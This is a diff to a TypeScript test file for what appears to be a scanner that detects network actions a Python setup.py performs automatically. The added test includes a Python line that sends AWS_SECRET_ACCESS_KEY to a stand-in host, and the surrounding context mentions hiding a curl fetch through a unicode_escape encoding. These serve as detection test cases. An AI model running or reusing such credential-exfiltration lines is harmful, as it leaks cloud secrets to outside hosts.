@@ -135,6 +135,13 @@ describe('what Python runs by itself', () => {
     ['another encoding', `# coding: unicode_escape\n# \\n${go}`],
   ])('%s', (_name, code) => expect(byItself(py(code))).toContain('fetch curl https://a.example'))
 
+  it('takes no look at a table for a request', () => {
+    const found = (get: string): Action[] => py(`import os, requests\ns = requests.Session()\n${get}`).actions.filter(({ kind }) => kind === 'send')
+    expect(found(`s.get('https://a.example/' + os.environ['AWS_SECRET_ACCESS_KEY'])`)).toHaveLength(1)
+    const table = `t = requests.get('https://a.example').json()\nt.get(os.environ['AWS_SECRET_ACCESS_KEY']`
+    expect(found(`${table}, '')`)).toEqual([])
+  })
+
   it('says what it does not read', () => {
     expect(py('# coding: hz\nx').missing).toEqual(['setup.py: written in an encoding that is not read'])
     expect(py(`x = ${'await '.repeat(1500)}0`).missing).toEqual(['setup.py: nested too deeply to read'])
